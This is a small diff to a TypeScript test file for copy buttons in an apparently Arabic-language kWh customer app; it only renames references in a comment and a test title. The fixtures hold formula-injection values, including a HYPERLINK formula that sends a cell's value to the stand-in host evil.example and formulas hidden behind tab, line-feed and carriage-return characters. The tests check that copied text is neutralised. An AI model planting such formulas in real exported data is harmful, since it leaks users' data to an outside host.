@@ -5,7 +5,7 @@ import { KwhCopyButtons } from './kwh-copy-buttons';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
 
-// issue 27: a name holding a line feed or a tab before a formula, an address a carriage return
+// docs/copies-stay-data.md: a name holding a line feed or a tab before a formula, an address a carriage return
 const customers = [
   kwhCustomer({ customerNumber: 1000, name: `\n${HYPERLINK}`, address: '\r=1+1', outstandingBalance: -5 }),
   kwhCustomer({ customerNumber: 1001, name: '\t=2+2', box: 'أ\tب', address: 'حي البركة\r\nقرب الجامع' }),
@@ -26,7 +26,7 @@ async function copied(button: string) {
   return text;
 }
 
-describe('the kWh copy buttons (issue 27 §6: copies stay data)', () => {
+describe('the kWh copy buttons (docs/copies-stay-data.md: copies stay data)', () => {
   it('copies the names one per line, each line text and not a formula', async () => {
     expect(await copied('نسخ الأسماء')).toBe(`'${HYPERLINK}\n'=2+2`);
   });
